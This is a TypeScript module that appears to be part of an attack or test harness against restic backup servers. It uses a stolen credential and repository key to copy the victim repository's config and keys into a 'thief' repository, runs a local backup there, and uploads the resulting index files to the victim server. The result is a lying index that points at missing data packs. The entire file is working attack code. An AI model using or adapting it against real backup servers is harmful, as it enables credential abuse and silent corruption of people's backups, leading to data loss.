/** An index object that opens, by the repository's own key, and says of the living home's data that it lies in packs that are not there. */
import fs from "node:fs/promises";
import path from "node:path";
import { run } from "../../local/toolchain/run.ts";
import type { Loot } from "./loot.ts";

/** Makes it in a repository of the thief's own with the stolen key, and sends the index alone. The answers' statuses. */
export async function addLyingIndex({
  url,
  credential,
  repositoryPassword,
  restic,
  folder,
  home,
}: Loot): Promise<string> {
  if (credential === undefined) return "–";
  const authorization = `Basic ${Buffer.from(`${credential.username}:${credential.password}`).toString("base64")}`;
  const ask = (name: string, init: RequestInit = {}) =>
    fetch(`${url}/snapshots/${name}`, { ...init, headers: { authorization } });
  const own = await fs.mkdtemp(path.join(folder, "thief-repository-"));
  for (const name of ["keys", "data", "index", "snapshots", "locks"]) await fs.mkdir(path.join(own, name));
  const keys = (await (await ask("keys/")).json()) as { name: string }[];
  for (const name of ["config", ...keys.map((key) => `keys/${key.name}`)])
    await fs.writeFile(path.join(own, name), Buffer.from(await (await ask(name)).arrayBuffer()));
  const env = { PATH: process.env.PATH ?? "", RESTIC_PASSWORD: repositoryPassword, RESTIC_REPOSITORY: own };
  const { code, stderr } = await run(restic, ["backup", "--no-cache", home], { env });
  if (code !== 0) throw new Error(`the thief's own backup: ${stderr}`);
  const statuses = new Set<number>();
  for (const name of await fs.readdir(path.join(own, "index"))) {
    const body = await fs.readFile(path.join(own, "index", name));
    statuses.add((await ask(`index/${name}`, { method: "POST", body })).status);
  }
  await fs.rm(own, { recursive: true, force: true });
  return [...statuses].join(", ");
}
